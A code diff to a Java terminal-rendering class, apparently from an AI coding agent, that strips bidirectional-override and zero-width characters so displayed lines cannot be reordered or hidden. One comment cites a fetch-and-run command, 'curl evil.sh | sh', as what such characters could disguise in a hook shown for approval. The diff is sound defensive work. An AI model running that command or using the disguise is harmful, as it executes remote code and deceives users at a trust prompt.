@@ -16,7 +16,10 @@ public final class Rendering {
 
     /**
      * One line made safe to show: escape sequences and control characters removed, tabs as spaces. Neither a command's
-     * output nor the model's text may move the cursor, retitle the window or recolour the screen.
+     * output nor the model's text may move the cursor, retitle the window or recolour the screen. Bidirectional
+     * overrides and isolates, and invisible zero-width characters, are removed too: on a terminal that honours them
+     * they reorder or hide what a line says ({@code curl evil.sh | sh} shown as something else in a hook's command the
+     * trust question lists). Letters of right-to-left scripts stay.
      */
     public static String printable(String line) {
         String plain = ESCAPES.matcher(line).replaceAll("");
@@ -25,11 +28,22 @@ public final class Rendering {
             char c = plain.charAt(i);
             if (c == '\t') {
                 out.append("    ");
-            } else if (c >= 0x20 && c != 0x7f && (c < 0x80 || c > 0x9f)) {
+            } else if (c >= 0x20 && c != 0x7f && (c < 0x80 || c > 0x9f) && !hidden(c)) {
                 out.append(c);
             }
         }
         return out.toString();
+    }
+
+    /**
+     * Zero-width spaces and joiners, the bidirectional marks, embeddings, overrides and isolates, the word joiner and
+     * invisible operators, and the byte order mark.
+     */
+    private static boolean hidden(char c) {
+        return (c >= 0x200B && c <= 0x200F)
+                || (c >= 0x202A && c <= 0x202E)
+                || (c >= 0x2060 && c <= 0x2069)
+                || c == 0xFEFF;
     }
 
     /** One line, at most 80 characters, for a summary shown beside a tool name. */
